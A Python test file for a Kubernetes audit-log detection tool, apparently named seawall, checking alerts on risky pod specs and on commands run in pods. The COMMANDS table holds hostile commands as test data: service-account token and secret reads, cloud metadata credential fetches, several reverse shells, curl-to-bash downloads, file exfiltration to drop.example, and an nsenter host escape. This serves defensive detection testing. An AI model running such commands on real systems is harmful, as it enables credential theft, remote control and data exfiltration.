"""One behaviour in every shape that the API server gives it: kinds, verbs, patches, answers, dialects, versions."""

from __future__ import annotations

import json
import re
from importlib import import_module
from pkgutil import iter_modules
from typing import Any
from urllib.parse import quote, quote_plus

import pytest
from seawall.app.detect import detect
from seawall.detection import commands
from seawall.detection.rules import audit as audit_rules
from seawall.detection.sources.recognise import decode
from seawall.domain.severity import Severity

from tests.detection.events import aks, audit, eks, gke, host_path, pod, workload

KINDS = {
    "pods": "Pod", "deployments": "Deployment", "daemonsets": "DaemonSet", "statefulsets": "StatefulSet",
    "replicasets": "ReplicaSet", "replicationcontrollers": "ReplicationController", "jobs": "Job", "cronjobs": "CronJob",
}  # fmt: skip
SPECS = {
    "AU-0101": pod(securityContext={"privileged": True}),
    "AU-0102": host_path("/var/lib/kubelet"),
    "AU-0103": host_path("/run/containerd/containerd.sock"),
    "AU-0105": pod({"hostPID": True}),
    "AU-0106": pod(securityContext={"capabilities": {"add": ["SYS_PTRACE"]}}),
    "AU-0801": pod(image="docker.io/someone/xmrig:6"),
}


def raised(*documents: Any) -> dict[str, Severity]:
    """Highest severity by analytic."""
    events = []
    for document in documents:
        batch = decode(json.dumps(document).encode())
        assert not batch.rejects
        events += batch.events
    found: dict[str, Severity] = {}
    for alert in detect(events):
        found[alert.analytic] = max(alert.severity, found.get(alert.analytic, Severity.UNKNOWN))
    return found


def body(resource: str, spec: dict[str, Any]) -> dict[str, Any]:
    return spec if resource == "pods" else workload(spec, KINDS[resource])


@pytest.mark.parametrize("verb", ["create", "update", "patch"])
@pytest.mark.parametrize("resource", KINDS)
@pytest.mark.parametrize("analytic", SPECS)
def test_every_kind_of_workload(analytic, resource, verb):
    whole = body(resource, SPECS[analytic])
    for event in (
        audit(verb, resource, ns="shop", body=whole),
        audit(verb, resource, ns="shop", answer=whole),
        {**audit(verb, resource, ns="shop", body=whole), "apiVersion": "audit.k8s.io/v1beta1"},
        aks(audit(verb, resource, ns="shop", body=whole)),
        eks(audit(verb, resource, ns="shop", body=whole)),
        gke(f"io.k8s.x.v1.{resource}.{verb}", f"x/v1/namespaces/shop/{resource}/thing", request=whole),
    ):
        assert raised(event).get(analytic, Severity.UNKNOWN) >= Severity.MEDIUM, event


@pytest.mark.parametrize("analytic", SPECS)
def test_json_patches(analytic):
    spec = SPECS[analytic]["spec"]
    for operations in (
        [{"op": "replace", "path": "/spec", "value": {"template": {"spec": spec}}}],
        [{"op": "replace", "path": "/spec/template", "value": {"spec": spec}}],
        [{"op": "add", "path": f"/spec/template/spec/{key}", "value": value} for key, value in spec.items()],
    ):
        event = audit("patch", "deployments", ns="shop", body=operations)
        assert raised(event).get(analytic, Severity.UNKNOWN) >= Severity.MEDIUM, operations


@pytest.mark.parametrize("analytic", SPECS)
def test_dry_runs_and_refusals_change_nothing(analytic):
    event = audit(ns="shop", body=SPECS[analytic])
    assert analytic not in raised({**event, "requestURI": event["requestURI"] + "?dryRun=All"})
    assert analytic not in raised({**event, "responseStatus": {"code": 403}})


def ran(*command: str, verb: str = "create", encode: Any = quote, code: int = 101) -> dict[str, Any]:
    query = "&".join(f"command={encode(word)}" for word in command)
    uri = f"/api/v1/namespaces/shop/pods/api-1/exec?{query}&container=api&stdin=true&stdout=true&tty=true"
    return audit(verb, "pods/exec", ns="shop", name="api-1", uri=uri, code=code)


SHELL = ("sh", "-c")
COMMANDS = {
    "AU-0202": [
        ("cat", "/run/secrets/kubernetes.io/serviceaccount/token"),
        (*SHELL, "cat /var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
        ("cat", "/proc/1/environ"),
        ("cat", "/app/.env"),
        ("cat", "/etc/tls/server.key"),
        ("grep", "-ri", "password", "/app"),
        (*SHELL, "env | grep -i secret"),
    ],
    "AU-0203": [
        ("curl", "http://0xA9FEA9FE/latest/"),
        (*SHELL, "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"),
        ("wget", "-qO-", "http://metadata.google.internal/computeMetadata/v1/"),
        ("python3", "-c", "import urllib.request as u; u.urlopen('http://169.254.169.254/')"),
    ],
    "AU-0204": [
        ("ncat", "203.0.114.9", "4444", "--exec", "/bin/sh"),
        (*SHELL, "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.114.9 9001 >/tmp/f"),
        ("python3", "-c", "import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn('sh')"),
        ("awk", 'BEGIN { s = "/inet/tcp/0/203.0.114.9/42"; while (1) { printf "$" |& s } }'),
        ("bash", "-c", "bash <(curl -s http://203.0.114.9/x)"),
        (*SHELL, "curl -o /tmp/x http://files.example/x && chmod +x /tmp/x && /tmp/x"),
        (*SHELL, "curl -s -F file=@/etc/app.conf https://drop.example/"),
        (*SHELL, "exec 5<>/dev/tcp/10.0.0.9/443; cat <&5"),
        ("telnet", "203.0.114.9", "4444"),
        ("nsenter", "-t", "1", "-a", "sh"),
    ],
    "AU-0205": [
        ("tar", "-c", "-f", "-", "/data"),
        ("tar", "c", "/data"),
        (*SHELL, "cd /data && tar czf - ."),
        (*SHELL, "pg_dump shop | gzip; pg_dump shop"),
    ],
}  # fmt: skip


@pytest.mark.parametrize(("verb", "code"), [("create", 101), ("get", 101), ("create", 200)])
@pytest.mark.parametrize("encode", [quote, quote_plus])
@pytest.mark.parametrize(
    ("analytic", "command"),
    [pytest.param(a, c, id=f"{a} {' '.join(c)[:40]}") for a, cs in COMMANDS.items() for c in cs],
)
def test_commands_in_pods(analytic, command, encode, verb, code):
    assert raised(ran(*command, verb=verb, code=code, encode=encode)).get(analytic, 0) >= Severity.MEDIUM


@pytest.mark.parametrize(
    "command",
    [
        pytest.param(("etcdctl", "--key=/etc/etcd/server.key", "endpoint", "health"), id="a client with its key"),
        pytest.param(("printenv",), id="environment"),
        pytest.param(("bash", "-c", "echo > /dev/tcp/localhost/8080"), id="health check by the shell"),
        pytest.param(("curl", "-s", "http://api.shop.svc.cluster.local:8080/healthz"), id="call inside the cluster"),
        pytest.param(("curl", "-sI", "https://www.example.com/"), id="call of a named host"),
        pytest.param(("nc", "-zv", "10.0.0.9", "5432"), id="is the port open"),
        pytest.param(("ping", "-c1", "8.8.8.8"), id="is the internet there"),
        pytest.param(("tar", "xf", "-", "-C", "/tmp"), id="copy into the pod"),
        pytest.param(("tar", "czf", "/tmp/a.tgz", "/data"), id="archive that stays"),
        pytest.param((*SHELL, "tar cf - /data > /backup/a.tar"), id="archive into a file"),
        pytest.param(("python", "manage.py", "migrate"), id="migration"),
        pytest.param(("psql", "-c", "select 1"), id="query"),
    ],
)
def test_debugging_stays_under_medium(command):
    assert max(raised(ran(*command)).values()) <= Severity.LOW


@pytest.mark.parametrize(
    "command",
    [
        pytest.param("until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec app", id="waits for a port"),
        pytest.param("wget -qO /bin/tool https://files.example/tool && chmod +x /bin/tool", id="fetches a tool"),
        pytest.param("python -c 'import socket; socket.create_connection((\"db\", 5432))'", id="waits in Python"),
    ],
)
def test_start_up_scripts_stay_under_medium(command):
    assert max(raised(audit(ns="shop", body=pod(command=["bash", "-c", command]))).values(), default=0) <= Severity.LOW


def test_the_refusal_tells_of_a_denied_impersonation():
    words = 'users "admin" is forbidden: User "bob" cannot impersonate resource "users" in API group "" at the cluster'
    refused = audit("list", "pods", ns="shop", user="bob", code=403)
    assert "AU-0606" not in raised(refused)
    assert raised(refused | {"responseStatus": {"code": 403, "message": words}})["AU-0606"] >= Severity.MEDIUM


def gaps(parsed: Any) -> int:
    """How many unbounded gaps of any character one alternative has in a row: two make a crafted text cost its square."""
    found = 0
    for operation, argument in parsed:
        name = str(operation)
        if name == "BRANCH":
            found += max(gaps(branch) for branch in argument[1])
        elif name == "SUBPATTERN":
            found += gaps(argument[3])
        elif name in ("MAX_REPEAT", "MIN_REPEAT"):
            _, most, inner = argument
            wide = str(inner[0][0]) in ("ANY", "NOT_LITERAL") or (
                str(inner[0][0]) == "IN" and any(str(item[0]) in ("NEGATE", "CATEGORY") for item in inner[0][1])
                and not any("SPACE" in str(item[1]) or "DIGIT" in str(item[1]) for item in inner[0][1] if "NOT" not in str(item[1]))
            )  # fmt: skip
            found += 1 if wide and most > 1000 else gaps(inner)
    return found


def patterns_in(value: Any) -> list[re.Pattern[str]]:
    if isinstance(value, re.Pattern):
        return [value]
    return [found for item in value for found in patterns_in(item)] if isinstance(value, tuple) else []


MODULES = [commands] + [
    import_module(f"{audit_rules.__name__}.{found.name}") for found in iter_modules(audit_rules.__path__)
]
PATTERNS = {
    pattern.pattern: pytest.param(pattern, id=f"{module.__name__.rpartition('.')[2]}.{name}.{number}")
    for module in MODULES
    for name, value in vars(module).items()
    for number, pattern in enumerate(patterns_in(value))
}.values()


@pytest.mark.parametrize("pattern", PATTERNS)
def test_patterns_cost_crafted_texts_little(pattern):
    assert gaps(re._parser.parse(pattern.pattern)) <= 1
